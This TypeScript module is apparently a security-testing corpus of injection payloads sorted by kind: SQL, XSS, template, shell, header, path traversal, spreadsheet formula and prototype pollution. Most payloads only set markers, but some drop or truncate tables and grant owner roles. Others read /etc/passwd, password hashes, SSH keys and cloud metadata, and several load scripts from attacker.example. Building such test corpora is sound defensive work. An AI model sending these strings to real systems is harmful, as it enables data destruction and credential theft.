/** What attackers send, by what it is meant to do. Each text goes into every place that takes one. */

export interface Payload {
  kind: string;
  text: string;
}

/** Seconds that a payload would make the database or the machine sleep, if it were obeyed. */
export const sleepSeconds = 7;
/** Factors whose product shows in an answer when a template was evaluated. */
export const [factor, otherFactor] = [7_919, 7_907];
export const product = String(factor * otherFactor);
/** A header that exists only if a line end in a value was taken for one. */
export const injectedHeader = 'x-granary-injected';

/** Ways out of a value in SQL: a number, a quoted text, a list, a call, a comment, an identifier. */
const exits = ["'", "')", "'))", '"', '")', '`', '1', '1)', '\\', "\\'", "''", "'||'", '$$', '%27', "%' "];
const endings = ['', ' --', ' /*', ' #', ';--', "; -- '"];

const tables = ['catalog.items', 'identity.users', 'identity.audit_entries', 'platform.organizations'];
const stacked = [
  ...tables.map((table) => `drop table ${table} cascade`),
  ...tables.map((table) => `delete from ${table}`),
  ...tables.map((table) => `truncate ${table}`),
  `update identity.users set role = 'owner'`,
  'alter table identity.users disable row level security',
  `insert into platform.organizations (name) values ('injected')`,
  `select set_config('app.org_id', '', false)`,
  'reset role',
  `copy (select 1) to program 'sleep ${sleepSeconds}'`,
  'do $x$ begin execute $y$drop schema identity cascade$y$; end $x$',
  'create table public.injected (a int)',
  'grant all on all tables in schema identity to public',
  'set session authorization postgres',
];

const unions = [
  'union select null',
  'union select null, null, null',
  'union all select password_hash from identity.users',
  'union select email, password_hash, role from identity.users',
  'union select table_name from information_schema.tables',
  "union select current_setting('data_directory')",
  "union select pg_read_file('/etc/passwd')",
  'intersect select 1',
  'except select 1',
];

const conditions = [
  'or 1=1',
  "or '1'='1",
  'or true',
  'and false',
  "or 'a' like '%",
  'or exists(select 1)',
  '|| 1',
  'is not null',
];

const sleeps = [
  `pg_sleep(${sleepSeconds})`,
  `(select pg_sleep(${sleepSeconds}))`,
  `(select 1 from pg_sleep(${sleepSeconds}))`,
  `case when 1=1 then pg_sleep(${sleepSeconds}) end`,
  `(select count(*) from generate_series(1, 1000000000))`,
];

const scripts = [
  '<script>window.attacked=1</script>',
  '<SCRIPT SRC=//attacker.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.attacked=1</scr</script>ipt>',
  '<script/x>window.attacked=1</script>',
  '"><script>window.attacked=1</script>',
  "';window.attacked=1;//",
  '</title><script>window.attacked=1</script>',
  '</textarea><script>window.attacked=1</script>',
  '--><script>window.attacked=1</script>',
  ']]><script>window.attacked=1</script>',
  '\u003cscript\u003ewindow.attacked=1\u003c/script\u003e',
  '&lt;script&gt;window.attacked=1&lt;/script&gt;',
  '<noscript><p title="</noscript><img src=x onerror=window.attacked=1>">',
  '<template><script>window.attacked=1</script></template>',
];
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
].flatMap((handler) => [
  `<img src=x ${handler}=window.attacked=1>`,
  `<details open ${handler}="window.attacked=1">`,
  `" autofocus ${handler}="window.attacked=1`,
  `' ${handler}='window.attacked=1`,
]);
const addresses = [
  'javascript:window.attacked=1',
  'JaVaScRiPt:window.attacked=1',
  'java\tscript:window.attacked=1',
  '\u0001javascript:window.attacked=1',
  'data:text/html,<script>window.attacked=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//attacker.example/x',
  'https:attacker.example',
  'http://127.0.0.1:1/',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  'blob:https://attacker.example/1',
];
const drawings = [
  '<svg onload=window.attacked=1>',
  '<svg><script>window.attacked=1</script></svg>',
  '<svg><animate onbegin=window.attacked=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.attacked=1"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.attacked=1</script>"></iframe></foreignObject></svg>',
  '<math><mtext><img src=x onerror=window.attacked=1></mtext></math>',
  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  '<object data="javascript:window.attacked=1"></object>',
  '<embed src="javascript:window.attacked=1">',
  '<base href="//attacker.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:window.attacked=1">',
  '<link rel=stylesheet href=//attacker.example/x.css>',
  '<style>@import "//attacker.example/x.css";</style>',
  '<form action=javascript:window.attacked=1><button>x</button></form>',
];
const markdown = [
  '[x](javascript:window.attacked=1)',
  '![x](x"onerror="window.attacked=1)',
  '[x]: javascript:window.attacked=1',
  '<javascript:window.attacked=1>',
  '`<img src=x onerror=window.attacked=1>`',
  '[x](data:text/html,<script>window.attacked=1</script>)',
];

const templates = [
  `{{${factor}*${otherFactor}}}`,
  `\${${factor}*${otherFactor}}`,
  `#{${factor}*${otherFactor}}`,
  `<%= ${factor}*${otherFactor} %>`,
  `\${{${factor}*${otherFactor}}}`,
  `[[\${${factor}*${otherFactor}}]]`,
  `{${factor}*${otherFactor}}`,
  `@(${factor}*${otherFactor})`,
  `*{${factor}*${otherFactor}}`,
  `{{constructor.constructor('return ${factor}*${otherFactor}')()}}`,
  `{% set x = ${factor}*${otherFactor} %}{{x}}`,
  `\`\${${factor}*${otherFactor}}\``,
  `=${factor}*${otherFactor}`,
];
const formats = [
  '%s%s%s%s%s',
  '%n%n%n',
  '%x%x%x%x',
  '%d',
  '%1$s',
  '%99999999s',
  '{0}{1}',
  '{value}',
  '%%',
  '%(name)s',
  '$&$1$`',
];

const commands = [';', '|', '||', '&&', '&', '\n'].flatMap((joint) => [
  `x${joint} sleep ${sleepSeconds}`,
  `x${joint} cat /etc/passwd`,
]);
const substitutions = [
  `$(sleep ${sleepSeconds})`,
  `\`sleep ${sleepSeconds}\``,
  `\${IFS}sleep\${IFS}${sleepSeconds}`,
];

const lineEnds = ['\r\n', '\n', '\r', '%0d%0a', '%0a', '\u2028', '\u0085', '\u560d\u560a'].flatMap((end) => [
  `x${end}${injectedHeader}: 1`,
  `x${end}${end}<script>window.attacked=1</script>`,
]);

const paths = [
  '../../../../../../etc/passwd',
  '..\\..\\..\\..\\windows\\win.ini',
  '....//....//....//etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '..%c0%af..%c0%afetc/passwd',
  '/etc/passwd',
  'C:\\windows\\win.ini',
  '/proc/self/environ',
  '../../../../../../etc/passwd\0.csv',
  '.',
  '..',
  '~/.ssh/id_rsa',
  '\\\\attacker.example\\share',
  'CON',
  'a/../../b',
];

const unicode = [
  '\u02bc or 1=1 --',
  '\uff07 or 1=1 --',
  '\u2019; drop table catalog.items --',
  '\uff1cscript\uff1ewindow.attacked=1\uff1c/script\uff1e',
  '\u202ecod.exe',
  'a\u0300\u0301\u0302\u0303'.repeat(40),
  '\ufeffadmin',
  'ad\u00admin',
  '\u0430dmin',
  'ownеr',
  '\ud800',
  '\udfff\ud800',
  '\ufffe\uffff',
  '\u0130\u0131\u017f',
  '😀'.repeat(50),
  '\u200b\u200c\u200d',
];
const controls = [
  '\0',
  'a\0b',
  '\u0001',
  '\u001b[31mred',
  '\u007f',
  '\b\b\b',
  '\f\v',
  '\t=1+1',
  '\r=1+1',
  '\u0000\u0000',
];
const overlong = [
  'a'.repeat(10_000),
  "'".repeat(5_000),
  '('.repeat(5_000),
  '%'.repeat(3_000),
  '9'.repeat(400),
  '<'.repeat(4_000),
  `${'a'.repeat(300)}!`,
];
const sheets = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example","x")',
  '=IMPORTXML("http://attacker.example","//a")',
  '|x',
  '%0A=1+1',
  '"=1+1',
];
const objects = [
  '__proto__',
  'constructor',
  'prototype.attacked',
  '{"__proto__":{"attacked":1}}',
  '{"$ne":null}',
  '{"$where":"sleep(1)"}',
  'toString',
  'hasOwnProperty',
  '[object Object]',
  'null',
  'undefined',
  'NaN',
  'true',
  '[]',
  '{}',
  '-0',
  '1e999',
  '0x10',
];
const queries = [
  '*)(uid=*',
  '*',
  "' or count(/*)=1 or '",
  '$.x',
  '$[*]',
  '@>',
  '(?:a+)+$',
  '(a|a)*b',
  '%_%',
  '\\%',
];

const kinds: Record<string, readonly string[]> = {
  'a way out of a value': exits.flatMap((exit) =>
    (exit.length < 3 ? endings.slice(0, 3) : ['']).map((end) => exit + end),
  ),
  'a condition': conditions.flatMap((condition) => [`' ${condition} --`, `1 ${condition}`]),
  'a second statement': stacked.map((statement, index) => `${exits[index % 4]}; ${statement}; --`),
  'a union': unions.flatMap((union) => [`' ${union} --`, `0) ${union} --`]),
  'a sleep': sleeps.flatMap((sleep) => [
    `' || ${sleep} || '`,
    `1; select ${sleep}; --`,
    sleep,
    `' and ${sleep} is null --`,
  ]),
  'a script': scripts,
  'a handler': handlers,
  'an address': addresses,
  'a drawing': drawings,
  markdown,
  'a template': templates,
  'a format': formats,
  'a command': [...commands, ...substitutions],
  'a line end': lineEnds,
  'a path': paths,
  unicode,
  'a control character': controls,
  'too long': overlong,
  'a sheet formula': sheets,
  'an object': objects,
  'another query language': queries,
};

export const payloads: readonly Payload[] = Object.entries(kinds).flatMap(([kind, texts]) =>
  [...new Set(texts)].map((text) => ({ kind, text })),
);
